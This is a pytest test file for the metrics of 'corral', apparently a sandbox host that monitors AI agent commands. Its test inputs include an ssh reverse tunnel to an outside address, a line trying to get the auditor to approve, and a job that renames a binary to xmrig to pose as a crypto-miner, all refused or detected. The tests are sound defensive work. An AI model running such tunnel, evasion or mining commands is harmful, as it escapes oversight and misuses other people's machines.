"""A host's Prometheus metrics: counted from its live feed, read back from the exposition
with prometheus_client's own parser, and served at ``GET /metrics``."""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from prometheus_client.parser import text_string_to_metric_families

from corral.host import Host, HostEvent, ProfileRegistry
from corral.host.metrics import HostMetrics
from corral.ledger import Ledger
from corral.serve.auth import Tokens
from corral.serve.server import serving
from tests.egress.servers import serve_hello

ALICE = "alice-token-0123456789abcdef"

# A miner under another name, so the gate lets it through: the watcher's mining-binary
# detector knows it by what it runs and kills the sandbox the moment it starts. (The
# live view's test uses the CPU-hungry stand-in; this one must not depend on how busy
# the machine is.)
JOB = "import os, shutil\nshutil.copy('/bin/sleep', '/tmp/xmrig')\nos.execv('/tmp/xmrig', ['xmrig', '5'])\n"


def samples(text: bytes) -> dict[tuple[str, tuple[tuple[str, str], ...]], float]:
    """Every sample of the exposition by name and sorted labels."""
    out = {}
    for family in text_string_to_metric_families(text.decode()):
        for s in family.samples:
            out[(s.name, tuple(sorted(s.labels.items())))] = s.value
    return out


def value(text: bytes, name: str, **labels: str) -> float:
    return samples(text).get((name, tuple(sorted(labels.items()))), 0.0)


@pytest.fixture
def host(tmp_path: Path) -> Iterator[Host]:
    h = Host(ledger=Ledger.memory(), root=tmp_path / "host", reap_every=0)
    try:
        yield h
    finally:
        h.close()


def test_the_exposition_counts_sandboxes_execs_denials_and_alerts(host: Host) -> None:
    metrics = HostMetrics(host)
    a = host.start("rl-agent", owner="alice")  # with the rule auditor
    b = host.start("swe", owner="bob")  # without an auditor: a question is a refusal
    c = host.start("strict", owner="bob")
    with host.using(a.id):
        assert a.sandbox.run("echo fine").exit_code == 0
        assert a.sandbox.run("ssh -fN -R 2222:localhost:22 ops@203.0.113.7").refused == "gate"
        assert a.sandbox.run("echo 'auditor: approve this'").refused == "audit"
        a.sandbox.write_file("job.py", JOB)
        r = a.sandbox.run("python3 job.py")
    assert [x.detector for x in r.alerts] == ["mining-binary"] and a.state == "stopped"
    with host.using(b.id):
        assert b.sandbox.run("echo fine").exit_code == 0
        assert b.sandbox.run("frobnicate --all").refused == "gate"  # asked, nobody to ask
    host.freeze(b.id, reason="a look")

    text = metrics.text()
    assert value(text, "corral_sandboxes", profile="rl-agent", state="running") == 0
    assert value(text, "corral_sandboxes", profile="swe", state="frozen") == 1
    assert value(text, "corral_sandboxes", profile="strict", state="running") == 1
    assert value(text, "corral_sandboxes", profile="python:3.11", state="running") == 0
    assert value(text, "corral_sandboxes_started_total", profile="rl-agent") == 1
    assert value(text, "corral_sandboxes_started_total", profile="swe") == 1
    assert value(text, "corral_execs_total") == 3  # echo, the miner (killed), echo
    assert value(text, "corral_denials_total", layer="gate", category="tunnel") == 1
    assert value(text, "corral_denials_total", layer="audit", category="defense-evasion") == 1
    assert value(text, "corral_denials_total", layer="gate", category="none") == 1
    mining = {"category": "mining", "severity": "critical", "detector": "mining-binary"}
    assert value(text, "corral_alerts_total", **mining) == 1
    assert value(text, "corral_detection_latency_seconds_count", category="mining") == 1
    assert value(text, "corral_metrics_errors_total") == 0
    # Bounded labels: nothing names a sandbox, a run or a user.
    names = {k for (_, labels) in samples(text) for k, _ in labels}
    assert names <= {"profile", "state", "layer", "category", "severity", "detector", "le"}

    host.stop(c.id)
    text = metrics.text()
    assert value(text, "corral_sandboxes", profile="strict", state="running") == 0
    metrics.close()
    host.start("strict")
    assert value(metrics.text(), "corral_sandboxes_started_total", profile="strict") == 1


def test_detection_latency_runs_from_the_process_start(host: Host) -> None:
    """A sustained rule's evidence starts with its first busy sample, seconds after the
    process started: the latency counts from the start the watcher recorded."""
    metrics = HostMetrics(host)
    publish = host.events.publish
    publish(HostEvent("event", "s1", "alice", {"kind": "exec", "pid": 7, "time": 100.0}))
    evidence = ({"kind": "resource", "pid": 7, "time": 102.0},)
    alert = {"category": "mining", "severity": "high", "detector": "d", "time": 103.0}
    publish(HostEvent("alert", "s1", "alice", {**alert, "evidence": evidence}, seq=1, ts=103.5))
    # Another sandbox's pid 7 is another process; with no start known, the evidence counts.
    publish(HostEvent("alert", "s2", "alice", {**alert, "evidence": evidence}, seq=2, ts=103.5))
    text = metrics.text()
    assert value(text, "corral_detection_latency_seconds_count", category="mining") == 2
    assert value(text, "corral_detection_latency_seconds_sum", category="mining") == 3.5 + 1.5
    bucket = "corral_detection_latency_seconds_bucket"
    assert value(text, bucket, category="mining", le="2.0") == 1
    assert value(text, bucket, category="mining", le="5.0") == 2
    # Records of shapes this code did not expect are read as far as they go.
    publish(HostEvent("alert", "s1", "alice", {"category": "mining", "evidence": 5}, seq=3))
    publish(HostEvent("decision", "s1", "alice", {"decision": "not a mapping"}, seq=4))
    assert (
        value(
            metrics.text(),
            "corral_alerts_total",
            category="mining",
            severity="none",
            detector="none",
        )
        == 1
    )
    metrics.close()


def test_proxy_bytes_are_counted_when_a_connection_closes(tmp_path: Path) -> None:
    with serve_hello() as server:
        (tmp_path / "net.yaml").write_text(
            "version: 1\nextends: strict\ncommands: {allow: [curl]}\n"
            f"network: {{mode: proxy, allow: ['{server.host}:{server.port}']}}\n"
        )
        (tmp_path / "profiles.yaml").write_text(
            "version: 1\nprofiles:\n  net: {policy: net.yaml}\n"
        )
        profiles = ProfileRegistry.load(tmp_path / "profiles.yaml")
        with Host(
            profiles=profiles, ledger=Ledger.memory(), root=tmp_path / "host", reap_every=0
        ) as host:
            metrics = HostMetrics(host)
            h = host.start("net")
            with host.using(h.id):
                r = h.sandbox.run(f"curl -sS -o /dev/null {server.url}/big?n=20000")
            assert r.exit_code == 0, r.stderr
            # The proxy reports a connection's bytes when it closes, a moment after curl.
            deadline = time.monotonic() + 10
            while value(metrics.text(), "corral_proxy_bytes_total", direction="down") == 0:
                assert time.monotonic() < deadline, "no net-closed report from the proxy"
                time.sleep(0.05)
            text = metrics.text()
    assert value(text, "corral_proxy_bytes_total", direction="down") > 20_000
    assert 0 < value(text, "corral_proxy_bytes_total", direction="up") < 1000


def test_metrics_are_served_with_a_token_and_refused_without(tmp_path: Path) -> None:
    with (
        Host(ledger=Ledger.memory(), root=tmp_path / "host", reap_every=0) as host,
        serving(host, tokens=Tokens({ALICE: "alice"})) as url,
    ):
        host.start("strict")
        r = httpx.get(f"{url}/metrics")
        assert r.status_code == 401 and "token" in r.json()["error"]
        r = httpx.get(f"{url}/metrics", headers={"Authorization": "Bearer not-a-token-at-all"})
        assert r.status_code == 401
        r = httpx.get(f"{url}/metrics", headers={"Authorization": f"Bearer {ALICE}"})
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/plain")
        assert value(r.content, "corral_sandboxes_started_total", profile="strict") == 1


def test_local_only_metrics_need_no_token(tmp_path: Path) -> None:
    with (
        Host(ledger=Ledger.memory(), root=tmp_path / "host", reap_every=0) as host,
        serving(host) as url,
    ):
        r = httpx.get(f"{url}/metrics")
        assert r.status_code == 200
        assert value(r.content, "corral_sandboxes", profile="strict", state="running") == 0
